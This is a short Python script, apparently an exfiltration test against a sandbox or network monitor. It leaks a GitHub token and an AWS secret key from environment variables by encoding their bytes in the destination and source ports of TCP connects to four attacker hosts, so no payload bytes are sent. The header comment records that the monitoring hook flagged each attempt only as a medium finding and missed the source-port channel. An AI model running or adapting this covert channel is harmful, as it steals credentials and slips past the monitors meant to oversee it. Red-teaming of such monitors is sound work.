# A secret in the destination ports of the connects to one host, no byte
# of it sent (the attacker's host logs the SYNs; session 20): the GitHub
# token a byte a port (1000 + b, the repeated bytes too), the AWS secret
# key two bytes a port, high byte first to one host and low byte first to
# another; and the GitHub token in the source ports of the connects to a
# fourth (bound before each connect, 40000 + b). Each was a medium network
# finding, nothing more: the hook said each destination once and no source
# port, the kernel's budget kept ten connects a host.
import os
import socket
import struct
import time


def touch(host, port, sport=0):
    s = socket.socket()
    s.settimeout(0.5)
    try:
        if sport:
            # Closed with a reset (linger 0): the port is free at once,
            # not held in FIN_WAIT until the peer closes, which a bind of
            # the same source port for a repeated byte then met (CI).
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            for _ in range(50):
                try:
                    s.bind(("", sport))
                    break
                except OSError:
                    time.sleep(0.02)
        s.connect((host, port))
    except OSError:
        pass
    s.close()


for ch in os.environ.get("GITHUB_TOKEN", "").encode():
    touch("203.0.113.51", 1000 + ch)
key = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()
for i in range(0, len(key), 2):
    a, b = key[i:i + 2].ljust(2, b"x")
    touch("203.0.113.52", a << 8 | b)
    touch("203.0.113.53", b << 8 | a)
# (a new destination port each time: a source port bound again to the
# same destination can meet its last connection in TIME_WAIT)
for i, ch in enumerate(os.environ.get("GITHUB_TOKEN", "").encode()):
    touch("203.0.113.54", 8000 + i, 40000 + ch)
print("sent")
